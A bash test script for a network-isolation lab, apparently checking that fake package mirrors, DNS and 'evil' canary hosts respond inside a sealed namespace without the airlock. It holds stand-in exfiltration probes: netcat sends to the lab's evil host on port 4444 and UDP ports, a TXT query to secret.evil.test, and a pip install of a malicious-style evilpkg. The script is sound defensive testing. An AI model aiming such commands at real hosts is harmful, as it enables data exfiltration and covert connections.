#!/usr/bin/env bash
# The lab itself, without airlock: real clients run directly in the client
# namespace reach every fake service, the evil ones are logged by their
# canaries, and nothing outside the documentation ranges is reachable.
# If this fails, every airlock test in the lab is meaningless.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/lib.sh"
need_prog npm
lab_start

# DNS: A, AAAA, NXDOMAIN, TXT, the rebinding names; the query log works.
expect_eq "dig pypi.org A" "$LAB_PYPI_V4" "$(in_lab dig +short pypi.org A)"
expect_eq "dig pypi.org AAAA" "$LAB_PYPI_V6" "$(in_lab dig +short pypi.org AAAA)"
expect_eq "dig rebind-metadata.test" "$LAB_METADATA_V4" "$(in_lab dig +short rebind-metadata.test)"
expect_eq "dig rebind-loopback.test" "127.0.0.1" "$(in_lab dig +short rebind-loopback.test)"
expect_match "dig nosuch.org" "status: NXDOMAIN" "$(in_lab dig nosuch.org)"
expect_match "dig TXT secret.evil.test" "canary" "$(in_lab dig +short TXT secret.evil.test)"
expect_dns_saw "query log" 'secret\.evil\.test'

# HTTPS with the lab CA, over v4 and v6; plain HTTP.
out=$(in_lab curl -sS -4 https://pypi.org/simple/labpkg/) || fail "curl -4 pypi.org"
expect_match "simple index" 'labpkg-1\.0-py3-none-any\.whl' "$out"
out=$(in_lab curl -sS -6 https://pypi.org/simple/) || fail "curl -6 pypi.org"
expect_match "v6 index" 'labpkg' "$out"
grep -q '2001:db8:ffff::1 -> 2001:db8:1::10:443' "$LAB_LOG/pypi.org.access.log" ||
	fail "pypi.org access log has no v6 request"

# pip installs labpkg; evilpkg's index sends pip to evil.test, which the
# canary logs (here nothing stops it: this is the lab without airlock).
in_lab python3 -m pip install -q --target "$LAB_WORK/site" labpkg || fail "pip install labpkg"
expect_eq "labpkg imports" "hello from labpkg" \
	"$(PYTHONPATH="$LAB_WORK/site" /usr/bin/python3 -c 'import labpkg; print(labpkg.hello())')"
in_lab python3 -m pip install -q --target "$LAB_WORK/site-evil" evilpkg >/dev/null 2>&1 ||
	fail "pip install evilpkg (without airlock it must reach evil.test and succeed)"
grep -q 'GET /packages/evilpkg-1.0-py3-none-any.whl' "$LAB_LOG/evil.test.access.log" ||
	fail "evil.test canary did not log pip's download"

# npm installs labnpm from the packument and tarball.
mkdir -p "$LAB_WORK/npmproj"
(cd "$LAB_WORK/npmproj" && in_lab npm install --no-save labnpm >/dev/null) || fail "npm install labnpm"
expect_eq "labnpm runs" "hello from labnpm" \
	"$(node -e 'console.log(require(process.argv[1])())' "$LAB_WORK/npmproj/node_modules/labnpm")"

# git clone over smart HTTP; codeload's tarball.
in_lab git clone -q https://github.com/org/repo.git "$LAB_WORK/repo" || fail "git clone"
[ -f "$LAB_WORK/repo/hello.py" ] || fail "git clone: hello.py missing"
in_lab curl -sSf -o "$LAB_WORK/repo.tgz" https://codeload.github.com/org/repo/tar.gz/refs/heads/main ||
	fail "codeload tarball"
grep -q 'repo-main/hello.py' <<<"$(tar -tzf "$LAB_WORK/repo.tgz")" || fail "codeload tarball content"

# Raw canaries: TCP and UDP by IP, and the client's own services.
before=$(canary_packets)
in_lab sh -c "echo tcp-probe | nc -w 1 -N $LAB_EVIL_V4 4444" || true
in_lab sh -c "echo udp-probe | nc -u -q 0 $LAB_EVIL_V4 443" || true
in_lab sh -c "echo udp6-probe | nc -u -q 0 $LAB_EVIL_V6 53" || true
in_lab curl -s -o /dev/null http://127.0.0.1/ || true
# The canaries log asynchronously; give them a moment.
for _ in $(seq 40); do
	[ "$(wc -l <"$LAB_LOG/canary.log")" -ge 6 ] && break
	sleep 0.05
done
grep -q "tcp-data $LAB_EVIL_V4:4444 .*tcp-probe" "$LAB_LOG/canary.log" || fail "tcp canary: $(cat "$LAB_LOG/canary.log")"
grep -q "udp $LAB_EVIL_V4:443 .*udp-probe" "$LAB_LOG/canary.log" || fail "udp canary: $(cat "$LAB_LOG/canary.log")"
grep -q "udp \[$LAB_EVIL_V6\]:53 .*udp6-probe" "$LAB_LOG/canary.log" || fail "udp6 canary: $(cat "$LAB_LOG/canary.log")"
grep -q "tcp-accept 127.0.0.1:80" "$LAB_LOG/canary.log" || fail "client loopback canary"
after=$(canary_packets)
[ "$after" -gt "$before" ] || fail "nft canary counters did not move ($before -> $after)"

# No way out: nothing outside the documentation ranges has a route (the
# address below is TEST-NET's neighbour in class E space: never routed).
in_lab ip route get 240.0.0.1 >/dev/null 2>&1 && fail "the client namespace has a route to 240.0.0.1"
in_lab ip -6 route get 2001:db9::1 >/dev/null 2>&1 && fail "the client namespace has a v6 route out"
[ -z "$("$LAB_SH" inet "$LAB" ip route show default)" ] || fail "inet has a default route"

# Teardown leaves nothing: no process in either namespace, no directory.
client_ino=$(stat -L -c %i "$LAB_CLIENT_NS")
inet_ino=$(stat -L -c %i "$LAB_INET_NS")
lab_down "$LAB"
[ ! -e "$LAB" ] || fail "lab directory left behind"
# Captured first: under pipefail, grep -q quitting early could SIGPIPE stat
# and turn a match into a pass.
inodes=$(stat -L -c %i /proc/[0-9]*/ns/net 2>/dev/null || true)
if grep -qx -e "$client_ino" -e "$inet_ino" <<<"$inodes"; then
	fail "a process is left in a lab namespace"
fi
LAB=
echo "lab: every service works with real clients, canaries log, teardown is clean"
